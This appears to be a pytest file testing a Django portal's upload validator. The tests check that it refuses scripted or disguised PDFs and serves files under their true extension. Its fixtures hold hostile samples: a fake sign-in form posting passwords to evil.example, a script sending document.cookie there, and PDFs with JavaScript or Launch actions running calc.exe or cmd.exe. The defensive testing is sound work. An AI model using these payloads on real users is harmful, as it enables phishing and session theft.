"""Uploads are judged by their content: a PDF is a readable PDF without scripts, and the
file is stored and served under the extension of what it is, whatever it was called."""

import io
import re

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from accounts.models import User
from agenda.models import Meeting
from cidi_meeting.uploads import DOCX, PDF, PPTX, validate_document
from delegations.models import Delegation
from outcomes.enums import PracticeStatus
from speakers.models import Statement
from tests.agenda.test_editor import meeting_form_data
from tests.outcomes.factories import GoodPracticeFactory
from tests.speakers.factories import SpeakerInvitationFactory
from tests.speakers.test_views import invitation_path

SIGN_IN_FORM = (
    b"<html><body><h1>OAS sign-in</h1><form action='http://evil.example/steal'>"
    b"<input name=password type=password></form>"
    b"<script>fetch('http://evil.example/?c='+document.cookie)</script></body></html>"
)
MAX_BYTES = 10 * 1024 * 1024


def pdf(*, javascript=None, open_action=None, page_actions=None, annotation=None, html=b""):
    """Return a one-page PDF made by pypdf, with what a hostile author might add."""
    writer = PdfWriter()
    page = writer.add_blank_page(612, 792)
    if javascript:
        # What writer.add_js does: a document-level script in the catalogue's name tree.
        script = writer._add_object(action("/JavaScript", JS=TextStringObject(javascript)))
        names = DictionaryObject(
            {NameObject("/Names"): ArrayObject([TextStringObject("open"), script])}
        )
        writer._root_object[NameObject("/Names")] = DictionaryObject(
            {NameObject("/JavaScript"): names}
        )
    if open_action is not None:
        writer._root_object[NameObject("/OpenAction")] = open_action
    if page_actions is not None:
        page[NameObject("/AA")] = page_actions
    if annotation is not None:
        page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    buffer = io.BytesIO()
    writer.write(buffer)
    data = buffer.getvalue()
    if html:
        # An HTML page hidden in a PDF comment right after the header.
        header, rest = data.split(b"\n", 1)
        data = header + b"\n%" + html + b"\n" + rest
        data = fix_xref(data, len(html) + 2)
    return data


def fix_xref(data, shift):
    """Shift the cross-reference offsets of ``data`` after text was inserted near its top."""
    head, xref = data.rsplit(b"\nxref\n", 1)

    def moved(match):
        return b"%010d 00000 n" % (int(match.group(1)) + shift)

    table, trailer = xref.split(b"trailer", 1)
    table = re.sub(rb"(\d{10}) 00000 n", moved, table)
    trailer = re.sub(
        rb"startxref\n(\d+)", lambda m: b"startxref\n%d" % (int(m.group(1)) + shift), trailer
    )
    return head + b"\nxref\n" + table + b"trailer" + trailer


def action(kind, **entries):
    return DictionaryObject(
        {
            NameObject("/S"): NameObject(kind),
            **{NameObject("/" + key): value for key, value in entries.items()},
        }
    )


GOOD_PDF = pdf()
JAVASCRIPT_PDF = pdf(javascript="app.alert('Your session expired: sign in again');")
HTML_POLYGLOT = b"%PDF-1.7\n" + SIGN_IN_FORM + b"\n%%EOF\n"
HOSTILE_PDFS = {
    "document JavaScript": JAVASCRIPT_PDF,
    "JavaScript open action": pdf(
        open_action=action("/JavaScript", JS=TextStringObject("app.alert(1)"))
    ),
    "launch open action": pdf(open_action=action("/Launch", F=TextStringObject("calc.exe"))),
    "page additional action": pdf(
        page_actions=DictionaryObject(
            {NameObject("/O"): action("/JavaScript", JS=TextStringObject("app.alert(1)"))}
        )
    ),
    "link annotation launching a program": pdf(
        annotation=DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
                NameObject("/A"): action("/Launch", F=TextStringObject("cmd.exe")),
            }
        )
    ),
    "HTML hidden in a readable PDF": pdf(html=SIGN_IN_FORM),
}


def upload(content, name="document.pdf"):
    return SimpleUploadedFile(name, content, "application/pdf")


# The check itself ----------------------------------------------------------------------------


def test_a_readable_pdf_passes():
    assert validate_document(upload(GOOD_PDF), allowed=[PDF], max_bytes=MAX_BYTES) == PDF


def test_a_pdf_that_opens_on_a_page_passes():
    first_page = ArrayObject([NumberObject(0), NameObject("/Fit")])
    content = pdf(open_action=first_page)

    assert validate_document(upload(content), allowed=[PDF], max_bytes=MAX_BYTES) == PDF


@pytest.mark.parametrize(
    "content",
    [
        HTML_POLYGLOT,
        b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n",
        b"%PDF-1.4\n" + b"\0" * 500,
    ],
    ids=["HTML page", "no catalogue", "no objects"],
)
def test_a_file_that_only_starts_like_a_pdf_is_refused(content):
    with pytest.raises(ValidationError) as refused:
        validate_document(upload(content), allowed=[PDF], max_bytes=MAX_BYTES)

    assert refused.value.code == "wrong_type"


@pytest.mark.parametrize("content", HOSTILE_PDFS.values(), ids=HOSTILE_PDFS.keys())
def test_a_pdf_with_scripts_or_launch_actions_is_refused(content):
    with pytest.raises(ValidationError) as refused:
        validate_document(upload(content), allowed=[PDF, DOCX, PPTX], max_bytes=MAX_BYTES)

    assert refused.value.code == "active_content"


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("Annex_OAS_login.html", "Annex_OAS_login.pdf"),
        ("Credenciales.PDF", "Credenciales.pdf"),
        ("letter", "letter.pdf"),
        ("report.pdf.exe", "report.pdf.pdf"),
        ("a" * 300 + ".pdf", "a" * 251 + ".pdf"),
    ],
)
def test_the_upload_takes_the_extension_of_its_detected_type(name, expected):
    uploaded = upload(GOOD_PDF, name)

    validate_document(uploaded, allowed=[PDF], max_bytes=MAX_BYTES)

    assert uploaded.name == expected


# Every upload field of the portal -------------------------------------------------------------


def signed_in(email):
    client = Client()
    client.force_login(User.objects.get(email=email))
    return client


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    settings.SECRETARIAT_REQUIRES_MFA = False


def credentials_letters(meeting, content, name):
    panama = Delegation.objects.get(meeting=meeting, member_state__iso2="PA")
    focal = signed_in("focal.pa@example.org")
    response = focal.post(
        f"/delegations/{panama.pk}/credentials/", {"letter": upload(content, name)}, follow=True
    )
    letter = panama.credentials_letters.first()
    if letter is None:
        return response, None, None
    served = focal.get(f"/delegations/{panama.pk}/credentials/{letter.pk}/")
    return response, letter.original_name, served


def practice_attachments(meeting, content, name):
    mexico = Delegation.objects.get(meeting=meeting, member_state__iso2="MX")
    draft = GoodPracticeFactory(delegation=mexico, status=PracticeStatus.DRAFT)
    focal = signed_in("focal.mx@example.org")
    response = focal.post(
        f"/practices/{draft.pk}/attachments/", {"file": upload(content, name)}, follow=True
    )
    attachment = draft.attachments.first()
    if attachment is None:
        return response, None, None
    served = focal.get(f"/practices/{draft.pk}/attachments/{attachment.pk}/")
    return response, attachment.original_name, served


def speaker_statements(meeting, content, name):
    invitation = SpeakerInvitationFactory()
    client = Client()
    path = invitation_path(invitation)
    response = client.post(path, {"action": "upload", "file": upload(content, name)}, follow=True)
    statement = Statement.objects.filter(slot=invitation.slot).first()
    if statement is None:
        return response, None, None
    served = signed_in("secretariat@example.org").get(
        reverse("speakers:statement_download", kwargs={"pk": statement.pk})
    )
    return response, statement.original_name, served


def concept_notes(meeting, content, name):
    secretariat = signed_in("secretariat@example.org")
    meeting.concept_note = ""
    meeting.save(update_fields=["concept_note"])
    response = secretariat.post(
        f"/secretariat/meetings/{meeting.slug}/details/",
        meeting_form_data(meeting, concept_note=upload(content, name)),
        follow=True,
    )
    meeting = Meeting.objects.get(pk=meeting.pk)
    if not meeting.concept_note:
        return response, None, None
    served = secretariat.get(f"/meetings/{meeting.slug}/concept-note/")
    return response, meeting.concept_note.name, served


UPLOAD_FIELDS = [credentials_letters, practice_attachments, speaker_statements, concept_notes]


def served_name(response):
    return re.search(r'filename="([^"]+)"', response["Content-Disposition"]).group(1)


@pytest.mark.parametrize("field", UPLOAD_FIELDS)
def test_every_upload_field_refuses_an_html_page_that_starts_like_a_pdf(demo_meeting, field):
    response, stored, _served = field(demo_meeting, HTML_POLYGLOT, "Annex_OAS_login.pdf")

    assert stored is None
    assert "is not a PDF" in response.content.decode()


@pytest.mark.parametrize("field", UPLOAD_FIELDS)
def test_every_upload_field_refuses_a_pdf_with_javascript(demo_meeting, field):
    response, stored, _served = field(demo_meeting, JAVASCRIPT_PDF, "Statement.pdf")

    assert stored is None
    assert "contains scripts or actions" in response.content.decode()


@pytest.mark.parametrize("field", UPLOAD_FIELDS)
def test_every_upload_field_stores_and_serves_a_pdf_named_html_as_pdf(demo_meeting, field):
    _response, stored, served = field(demo_meeting, GOOD_PDF, "Annex_OAS_login.html")

    assert stored is not None and stored.endswith(".pdf")
    assert served.status_code == 200
    assert served["Content-Type"] == "application/pdf"
    assert served_name(served).endswith(".pdf")
    assert ".html" not in served["Content-Disposition"]


def test_files_stored_before_the_check_are_served_with_their_type_extension(demo_meeting):
    """Records kept from before the rename still download as what they are."""
    from django.core.files.storage import default_storage

    from cidi_meeting.uploads import generated_name
    from delegations.models import CredentialsLetter
    from outcomes.models import PracticeAttachment
    from tests.speakers.factories import StatementFactory

    def stored(folder):
        return default_storage.save(generated_name(folder, PDF), io.BytesIO(GOOD_PDF))

    old_name = "Annex_OAS_login.html"
    panama = Delegation.objects.get(meeting=demo_meeting, member_state__iso2="PA")
    letter = CredentialsLetter.objects.create(
        delegation=panama, file=stored("credentials"), original_name=old_name, size=1
    )
    practice = GoodPracticeFactory(delegation=panama)
    attachment = PracticeAttachment.objects.create(
        practice=practice, file=stored("practices"), original_name=old_name, kind=PDF, size=1
    )
    statement = StatementFactory(original_name=old_name)
    secretariat = signed_in("secretariat@example.org")

    for url in [
        f"/delegations/{panama.pk}/credentials/{letter.pk}/",
        f"/practices/{practice.pk}/attachments/{attachment.pk}/",
        reverse("speakers:statement_download", kwargs={"pk": statement.pk}),
    ]:
        served = secretariat.get(url)
        assert served.status_code == 200, url
        assert served_name(served) == "Annex_OAS_login.pdf", url


def test_the_review_page_lists_the_attachments_before_publishing(demo_meeting):
    from django.core.files.base import ContentFile

    from outcomes.models import PracticeAttachment

    mexico = Delegation.objects.get(meeting=demo_meeting, member_state__iso2="MX")
    practice = GoodPracticeFactory(delegation=mexico, status=PracticeStatus.SUBMITTED)
    attachment = PracticeAttachment.objects.create(
        practice=practice,
        file=ContentFile(GOOD_PDF, name="practices/annex.pdf"),
        original_name="Annex_OAS_login.pdf",
        kind=PDF,
        size=len(GOOD_PDF),
    )

    page = signed_in("secretariat@example.org").get(f"/practices/{practice.pk}/review/")

    text = page.content.decode()
    link = f'href="/practices/{practice.pk}/attachments/{attachment.pk}/"'
    assert link in text
    assert "Annex_OAS_login.pdf" in text
    assert text.index(link) < text.index("Accept and publish")
